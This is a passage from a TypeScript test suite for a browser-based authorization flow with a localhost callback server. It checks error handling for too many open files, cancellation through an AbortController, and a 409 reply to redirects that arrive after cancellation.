        expect((error as AuthorizeError).message).toBe(
          `the callback server on 127.0.0.1 failed while waiting for the redirect (accept EMFILE: too many open files): ${next}`,
        );
        expect((error as AuthorizeError).cause).toMatchObject({ code: "EMFILE" });
        expect(store.saved).toBeUndefined();
      }
    } finally {
      listen.mockRestore();
    }
  });

  it("stops waiting when cancelled", async () => {
    const controller = new AbortController();
    const run = authorizeWithBrowser(options({ signal: controller.signal, onAuthorizeUrl: () => controller.abort() }));
    await expect(run).rejects.toThrow(/cancelled/);
  });

  it("stops at once when cancelled before it starts waiting, however long the timeout", async () => {
    const controller = new AbortController();
    controller.abort();
    const started = Date.now();
    await expect(authorizeWithBrowser(options({ signal: controller.signal, timeoutMs: 60_000 }))).rejects.toThrow(/cancelled/);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it("answers a redirect that arrives after the wait was cancelled, so a caller following it is not left hanging", async () => {
    const controller = new AbortController();
    const pages: { status: number; text: string }[] = [];
    const follow = approving(pages);
    const run = authorizeWithBrowser(
      options({
        signal: controller.signal,
        onAuthorizeUrl: async (url) => {
          controller.abort();
          await follow(url);
        },
      }),
    );
    await expect(run).rejects.toThrow(/cancelled/);
    expect(pages).toHaveLength(1);
    expect(pages[0]?.status).toBe(409);
  });
});
